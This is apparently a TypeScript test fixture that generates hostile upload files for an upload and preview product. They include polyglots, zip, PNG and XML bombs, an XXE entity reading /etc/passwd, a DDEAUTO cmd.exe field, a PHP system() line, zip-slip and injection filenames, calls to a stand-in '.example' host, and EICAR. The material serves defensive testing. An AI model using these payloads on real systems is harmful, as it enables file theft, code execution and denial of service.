import { randomBytes } from 'node:crypto';
import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { anMp4, aWav } from '../builders/recordings.ts';
import { aLockedPdf, aPdf, aPdfBomb, aPdfOf, aPdfThatActs, aPdfThatLoops } from '../builders/uploaded-pdfs.ts';
import { eicar } from '../support/clamd.ts';
import { aBlackPng, aVastGif, aVastJpegHead, packedNothing, withComment } from './picture-files.ts';
import { aDocx, aZip } from './zip-files.ts';

/** How staff may meet it: a copy of the picture, drawn pages, a player, a page that says why not, or only the original. */
export type Meeting = 'copy' | 'drawn' | 'notDrawn' | 'video' | 'audio' | 'told' | 'original';

/** A file somebody could send, the type the product must record, and how staff may meet it. */
export type HostileFile = { what: string; name: string; bytes: Buffer; type: string; meeting: Meeting };

/** Stands in every file that would run something; must never reach a browser but in the saved original. */
export const planted = 'planted-9f31';

const script = `<script>document.title='${planted}';alert('${planted}')</script>`;
const html = `<!doctype html><html><body>${script}<img src=x onerror="alert('${planted}')"></body></html>`;
const unknown = 'application/octet-stream';
const docx = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

type Row = [what: string, name: string, bytes: Buffer | string, type: string, meeting: Meeting];

/** Every hostile file, built anew. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const rows = [
    ...(await polyglots()),
    ...(await bombs()),
    ...office(),
    ...names(),
    ...(await disguises()),
    ...(await pdfs()),
  ];
  return rows.map(([what, name, bytes, type, meeting]) => ({ what, name, bytes: Buffer.from(bytes), type, meeting }));
}

async function aJpeg(): Promise<Buffer> {
  return sharp({ create: { width: 40, height: 30, channels: 3, background: '#224466' } })
    .jpeg()
    .toBuffer();
}

async function polyglots(): Promise<Row[]> {
  const jpeg = await aJpeg();
  const pdf = await aPdf(1);
  const zip = aZip([{ name: 'a.html', bytes: html, isStored: true }]);
  const png = aBlackPng(16, 16, { chunks: [['tEXt', Buffer.from(`Comment\0${script}`)]] });
  const after = (head: Buffer): Buffer => Buffer.concat([head, Buffer.from(html)]);
  const riff = Buffer.concat([aWav(1), Buffer.from(html)]);
  const webp = Buffer.concat([Buffer.from('RIFF\x40\0\0\0WEBPVP8 ', 'latin1'), Buffer.from(html)]);
  return [
    ['PDF that is HTML', 'a.pdf', `%PDF-1.7\n${html}`, 'application/pdf', 'notDrawn'],
    ['HTML that is PDF', 'b.pdf', `${html}\n%PDF-1.7\n`, unknown, 'told'],
    ['PDF with HTML after it', 'c.pdf', after(pdf), 'application/pdf', 'drawn'],
    ['PDF with a ZIP after it', 'd.pdf', Buffer.concat([pdf, zip]), 'application/pdf', 'drawn'],
    ['ZIP with a PDF inside', 'e.pdf', aZip([{ name: 'x', bytes: pdf, isStored: true }]), 'application/zip', 'told'],
    ['GIF that is JavaScript', 'a.gif', `GIF89a/*${planted}*/=1;alert('${planted}')`, 'image/gif', 'told'],
    ['JPEG with a ZIP after it', 'a.jpg', Buffer.concat([jpeg, zip]), 'image/jpeg', 'copy'],
    ['JPEG with HTML after it', 'b.jpg', after(jpeg), 'image/jpeg', 'copy'],
    ['JPEG with a script in a comment', 'c.jpg', withComment(jpeg, script), 'image/jpeg', 'copy'],
    ['JPEG with a PDF in a comment', 'd.jpg', withComment(jpeg, pdf.subarray(0, 60_000)), 'image/jpeg', 'copy'],
    ['PNG with HTML after it', 'a.png', after(png), 'image/png', 'copy'],
    ['PNG with a script in its text', 'b.png', png, 'image/png', 'copy'],
    ['BMP that is JavaScript', 'a.bmp', `BM/*${'\0'.repeat(20)}*/;alert('${planted}')`, 'image/bmp', 'told'],
    ['WebP with HTML', 'a.webp', webp, 'image/webp', 'told'],
    ['WAV with HTML after it', 'a.wav', riff, 'audio/wav', 'audio'],
    ['MP4 with HTML inside', 'a.mp4', anMp4(5_000, html), 'video/mp4', 'video'],
    ['MP4 with a PDF inside', 'b.mp4', anMp4(9_000, `%PDF-1.7 ${planted}`), 'video/mp4', 'video'],
    [
      'XML with a style sheet that scripts',
      'a.xml',
      `<?xml version="1.0"?><?xml-stylesheet href="data:text/xsl,${planted}"?><a/>`,
      'application/xml',
      'told',
    ],
  ];
}

async function bombs(): Promise<Row[]> {
  const nothing = Buffer.alloc(100 * 1024 * 1024);
  const flat = aZip([{ name: '0', bytes: nothing }]);
  let nested = flat;
  for (let depth = 0; depth < 5; depth += 1) nested = aZip([{ name: `${depth}.zip`, bytes: nested }]);
  const many = aZip(
    Array.from({ length: 60_000 }, (_, n) => ({ name: String(n), bytes: '', isStored: true as const })),
  );
  const entity = ['a', 'b', 'c', 'd', 'e', 'f'].map(
    (name, n, all) => `<!ENTITY ${name} "${`&${all[n - 1] ?? 'x'};`.repeat(10)}">`,
  );
  return [
    ['ZIP of 100 MB of nothing', 'bomb.zip', flat, 'application/zip', 'told'],
    ['ZIP in ZIP in ZIP', 'nested.zip', nested, 'application/zip', 'told'],
    [
      'ZIP that lies about its length',
      'liar.zip',
      aZip([{ name: 'x', bytes: nothing, size: 10 }]),
      'application/zip',
      'told',
    ],
    ['ZIP of 60,000 entries', 'many.zip', many, 'application/zip', 'told'],
    ['gzip of 100 MB of nothing', 'bomb.gz', gzipSync(nothing), 'application/gzip', 'told'],
    ['DOCX with 100 MB of nothing', 'bomb.docx', aDocx(nothing), docx, 'told'],
    ['PNG of 900 million pixels', 'bomb.png', aBlackPng(30_000, 30_000), 'image/png', 'original'],
    [
      'PNG that claims two billion columns',
      'vast.png',
      aBlackPng(8, 2_147_483_647, { rows: 1 }),
      'image/png',
      'original',
    ],
    [
      'PNG with 100 MB of packed text',
      'text.png',
      aBlackPng(8, 8, { chunks: [['zTXt', Buffer.concat([Buffer.from('a\0\0'), packedNothing(100)])]] }),
      'image/png',
      'copy',
    ],
    [
      'PNG with 100 MB of packed profile',
      'icc.png',
      aBlackPng(8, 8, { chunks: [['iCCP', Buffer.concat([Buffer.from('a\0\0'), packedNothing(100)])]] }),
      'image/png',
      'copy',
    ],
    ['JPEG that claims four billion pixels', 'vast.jpg', aVastJpegHead(), 'image/jpeg', 'original'],
    ['GIF of the largest size', 'vast.gif', aVastGif(planted), 'image/gif', 'told'],
    [
      'XML whose entities explode',
      'laughs.xml',
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x "lol">${entity.join('')}]><x>&f;</x>`,
      'application/xml',
      'told',
    ],
    ['PDF with a packed stream of objects of a gigabyte', 'objects.pdf', await aPdfBomb(), 'application/pdf', 'drawn'],
    [
      'PDF with packed content of 300 MB',
      'content.pdf',
      aPdfWithContent(deflateSync(Buffer.alloc(300 * 1024 * 1024, ' '))),
      'application/pdf',
      'drawn',
    ],
    ['PDF whose tree of pages loops', 'loop.pdf', aPdfThatLoops(), 'application/pdf', 'notDrawn'],
    ['PDF of a page a kilometre wide', 'wide.pdf', aPdfOfBox('0 0 2834645 2834645'), 'application/pdf', 'drawn'],
    ['PDF of a page without a size', 'flat.pdf', aPdfOfBox('0 0 0 0'), 'application/pdf', 'drawn'],
    [
      'PDF that claims two billion pages',
      'count.pdf',
      aPdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 2147483647 /Kids [] >>']),
      'application/pdf',
      'notDrawn',
    ],
    [
      'PDF of arrays in arrays',
      'deep.pdf',
      aPdfOf([`<< /Type /Catalog /Pages ${'['.repeat(50_000)}${']'.repeat(50_000)} >>`]),
      'application/pdf',
      'notDrawn',
    ],
  ];
}

function aPdfWithContent(packed: Buffer): Buffer {
  const head = `<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n`;
  return aPdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] /MediaBox [0 0 595 842] >>',
    '<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>',
    Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream')]),
  ]);
}

function aPdfOfBox(box: string): Buffer {
  return aPdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Count 1 /Kids [3 0 R] /MediaBox [${box}] >>`,
    '<< /Type /Page /Parent 2 0 R >>',
  ]);
}

function office(): Row[] {
  const relationship = `<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://${planted}.example/t.dotm" TargetMode="External"/></Relationships>`;
  const types = (main: string): string =>
    `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/x" ContentType="${main}"/></Types>`;
  const docm = 'application/vnd.ms-word.document.macroEnabled.main+xml';
  const sheet = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
  return [
    [
      'DOCX with an external entity',
      'xxe.docx',
      aDocx(`<?xml version="1.0"?><!DOCTYPE w [<!ENTITY p SYSTEM "file:///etc/passwd">]><w>&p;</w>`),
      docx,
      'told',
    ],
    [
      'DOCX with a template from elsewhere',
      'template.docx',
      aDocx('<w/>', [{ name: 'word/_rels/settings.xml.rels', bytes: relationship }]),
      docx,
      'told',
    ],
    [
      'DOCX with a field that runs a program',
      'dde.docx',
      aDocx(`<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k ${planted}"</w:instrText>`),
      docx,
      'told',
    ],
    [
      'DOCM with a macro',
      'macro.docx',
      aZip([
        { name: '[Content_Types].xml', bytes: types(docm), isStored: true },
        { name: 'word/vbaProject.bin', bytes: planted },
      ]),
      'application/vnd.ms-word.document.macroenabled.12',
      'told',
    ],
    [
      'XLSX with a formula that asks the web',
      'web.xlsx',
      aZip([
        { name: '[Content_Types].xml', bytes: types(`${sheet}.main+xml`), isStored: true },
        { name: 'xl/worksheets/sheet1.xml', bytes: `<f>WEBSERVICE("http://${planted}.example")</f>` },
      ]),
      sheet,
      'told',
    ],
    [
      'ODT with a macro',
      'macro.odt',
      aZip([
        { name: 'mimetype', bytes: 'application/vnd.oasis.opendocument.text', isStored: true },
        { name: 'Basic/script.xml', bytes: planted },
      ]),
      'application/vnd.oasis.opendocument.text',
      'told',
    ],
    [
      'ZIP with a way out of its folder',
      'slip.zip',
      aZip([{ name: '../../../../tmp/planted', bytes: planted }]),
      'application/zip',
      'told',
    ],
    [
      'ZIP with a symbolic link',
      'link.zip',
      aZip([{ name: 'x', bytes: '/etc/passwd', isStored: true, mode: 0o120777 }]),
      'application/zip',
      'told',
    ],
    [
      'ZIP with two entries of one name',
      'twice.zip',
      aZip([
        { name: 'a', bytes: '1' },
        { name: 'a', bytes: '2' },
      ]),
      'application/zip',
      'told',
    ],
  ];
}

/** Names that are more than names; the bytes are harmless. */
function names(): Row[] {
  const named = (what: string, name: string): Row => [what, name, `harmless ${what}`, unknown, 'told'];
  return [
    named('name that climbs', '../../../etc/passwd'),
    named('name that climbs on Windows', '..\\..\\windows\\win.ini'),
    named('name with NUL', 'a\0b.pdf'),
    named('name that reads backwards', 'annual\u202efdp.exe'),
    named('name with isolates', 'a\u2066b\u2069\u200f.pdf'),
    named('name of 300 characters', `${'ө'.repeat(296)}.pdf`),
    named('name of a device', 'CON'),
    named('name of 250 emoji', '🗳️'.repeat(125)),
    named('name cut in half', `${'a'.repeat(199)}🗳.pdf`),
    named('name with half a character', '\ud800half.pdf'),
    named('name with a new line and a header', 'a\r\nSet-Cookie: planted=1\r\n.pdf'),
    named('name with a line separator', 'a\u2028b\u2029c.pdf'),
    named('name with a picture', `<img src=x onerror=alert('${planted}')>.png`),
    named('name with a script', `"><script>alert('${planted}')<\u2215script>.pdf`),
    named('name that ends its attribute', `a" onmouseover="alert('${planted}')" b="`),
    named('name with another name', 'a"; filename="b.exe'),
    named('name of a template', '{{7*7}}${7*7}<%=7*7%>.pdf'),
    named('name of a message', '{n, plural, one {x} other {y}} {name}.pdf'),
    named('no name', ''),
    named('name of blanks', ' \t '),
    named('name of dots', '..'),
    named('name already encoded', '%2e%2e%2fetc%2fpasswd%00.pdf'),
    named('name with nothing between', 'a\u200bb\u00adc.pdf'),
    named('name that starts a formula', '=HYPERLINK("http://planted.example")'),
  ];
}

async function disguises(): Promise<Row[]> {
  const jpeg = await sharp({
    create: {
      width: 400,
      height: 300,
      channels: 3,
      background: '#000',
      noise: { type: 'gaussian', mean: 99, sigma: 30 },
    },
  })
    .jpeg()
    .toBuffer();
  const pdf = await aPdf(1);
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${planted}')">${script}</svg>`;
  return [
    ['HTML', 'a.html', html, unknown, 'told'],
    ['HTML as a photo', 'photo.jpg', html, unknown, 'told'],
    ['HTML of another encoding', 'utf16.html', Buffer.from(`\ufeff${html}`, 'utf16le'), unknown, 'told'],
    ['SVG with a script', 'a.svg', svg, unknown, 'told'],
    ['SVG as XML', 'b.svg', `<?xml version="1.0"?>${svg}`, 'application/xml', 'told'],
    ['packed SVG', 'c.svgz', gzipSync(svg), 'application/gzip', 'told'],
    ['a page in one file', 'a.mhtml', `MIME-Version: 1.0\nContent-Type: multipart/related\n\n${html}`, unknown, 'told'],
    ['JavaScript', 'a.js', `alert('${planted}')`, unknown, 'told'],
    ['PHP', 'a.php', `<?php system('id'); // ${planted}`, unknown, 'told'],
    [
      'program of Windows as a photo',
      'photo.jpg',
      Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), randomBytes(300)]),
      'application/x-msdownload',
      'told',
    ],
    [
      'program of Linux as a PDF',
      'a.pdf',
      Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(200)]),
      'application/x-elf',
      'told',
    ],
    ['PDF as a photo', 'photo.jpg', pdf, 'application/pdf', 'drawn'],
    ['photo as a PDF', 'scan.pdf', jpeg, 'image/jpeg', 'copy'],
    ['half a photo', 'half.jpg', jpeg.subarray(0, jpeg.length / 2), 'image/jpeg', 'original'],
    ['half a PNG', 'half.png', aBlackPng(4_000, 4_000).subarray(0, 60), 'image/png', 'original'],
    ['half a PDF', 'half.pdf', pdf.subarray(0, pdf.length / 2), 'application/pdf', 'notDrawn'],
    [
      'half a ZIP',
      'half.zip',
      aZip([{ name: 'a', bytes: randomBytes(500) }]).subarray(0, 100),
      'application/zip',
      'told',
    ],
    ['half an MP4', 'half.mp4', anMp4(5_000).subarray(0, 2_500), 'video/mp4', 'video'],
    ['an MP4 cut in its second box', 'cut.mp4', anMp4(5_000).subarray(0, 30), unknown, 'told'],
    ['nothing', 'empty.pdf', '', unknown, 'told'],
    ['one byte', 'one.pdf', '%', unknown, 'told'],
    ['noise', 'noise.bin', Buffer.from('c3'.repeat(9_000), 'hex'), unknown, 'told'],
    ['the test virus', 'eicar.com', eicar, unknown, 'told'],
    ['the test virus in a ZIP', 'eicar.zip', aZip([{ name: 'e.com', bytes: eicar }]), 'application/zip', 'told'],
  ];
}

async function pdfs(): Promise<Row[]> {
  const page = (more: string, catalog = ''): Buffer =>
    aPdfOf([
      `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
      '<< /Type /Pages /Count 1 /Kids [3 0 R] /MediaBox [0 0 595 842] >>',
      `<< /Type /Page /Parent 2 0 R ${more} >>`,
    ]);
  const link = (action: string): string =>
    `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << ${action} >> >>]`;
  return [
    ['PDF that asks for a password', 'locked.pdf', await aLockedPdf(), 'application/pdf', 'notDrawn'],
    ['PDF with JavaScript and a program to start', 'acts.pdf', aPdfThatActs(), 'application/pdf', 'drawn'],
    [
      'PDF with a file inside',
      'attached.pdf',
      page('', `/Names << /EmbeddedFiles << /Names [(${planted}.exe) << /F (x) >>] >> >>`),
      'application/pdf',
      'drawn',
    ],
    [
      'PDF that sends a form away',
      'submit.pdf',
      page(link(`/S /SubmitForm /F (http://${planted}.example)`)),
      'application/pdf',
      'drawn',
    ],
    [
      'PDF that opens an address',
      'uri.pdf',
      page(link(`/S /URI /URI (javascript:alert('${planted}'))`)),
      'application/pdf',
      'drawn',
    ],
    [
      'PDF that opens another file',
      'remote.pdf',
      page(link('/S /GoToR /F (\\\\\\\\planted\\\\share\\\\x.pdf)')),
      'application/pdf',
      'drawn',
    ],
    [
      'PDF with a form in XML',
      'xfa.pdf',
      page('', `/AcroForm << /Fields [] /XFA (${planted}) >>`),
      'application/pdf',
      'drawn',
    ],
    [
      'PDF whose picture lies elsewhere',
      'outside.pdf',
      page(
        '/Resources << /XObject << /I << /Type /XObject /Subtype /Image /F (file:///etc/passwd) /Width 1 /Height 1 /Length 0 >> >> >>',
      ),
      'application/pdf',
      'drawn',
    ],
  ];
}
